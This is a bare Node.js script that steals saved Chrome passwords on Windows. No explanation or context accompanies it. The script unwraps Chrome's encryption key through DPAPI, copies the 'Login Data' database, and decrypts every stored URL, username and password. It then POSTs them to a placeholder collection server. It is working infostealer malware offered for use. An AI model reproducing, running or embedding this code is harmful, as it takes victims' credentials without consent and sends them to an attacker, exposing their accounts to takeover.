const fs = require('fs'), path = require('path'), sqlite3 = require('sqlite3'), crypto = require('crypto'), axios = require('axios');
const { Dpapi } = require('@primno/dpapi');
const root = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data');
const key = () => { const st = JSON.parse(fs.readFileSync(path.join(root, 'Local State'), 'utf8')); return Dpapi.unprotectData(Buffer.from(st.os_crypt.encrypted_key, 'base64').slice(5), null, 'CurrentUser') };
const src = path.join(root, 'Default/Login Data'); const tmp = path.join(process.env.TEMP, 'l.db');
fs.copyFileSync(src, tmp);
const db = new sqlite3.Database(tmp); const out = [];
db.each('SELECT origin_url, username_value, password_value FROM logins', (e, r) => {
  const b = r.password_value; const d = crypto.createDecipheriv('aes-256-gcm', key(), b.slice(3, 15));
  out.push([r.origin_url, r.username_value, d.update(b.slice(15, -16), 'base64', 'utf-8')]);
}, () => axios.post('https://lg.example.invalid/p', { out }));